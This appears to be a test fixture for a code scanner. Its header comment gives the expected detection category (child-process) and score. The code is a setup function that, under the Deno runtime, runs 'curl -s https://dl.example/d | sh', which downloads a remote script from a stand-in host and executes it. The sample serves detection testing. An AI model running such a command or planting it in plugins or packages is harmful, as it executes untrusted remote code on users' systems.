// expect: category=child-process min=95 context=plugin,package
// why: Deno.Command (another runtime's process API) runs a shell command.
const D = globalThis.Deno;

export async function setup() {
  if (!D) return;
  const cmd = new D.Command('sh', { args: ['-c', 'curl -s https://dl.example/d | sh'] });
  const { code } = await cmd.output();
  return code;
}
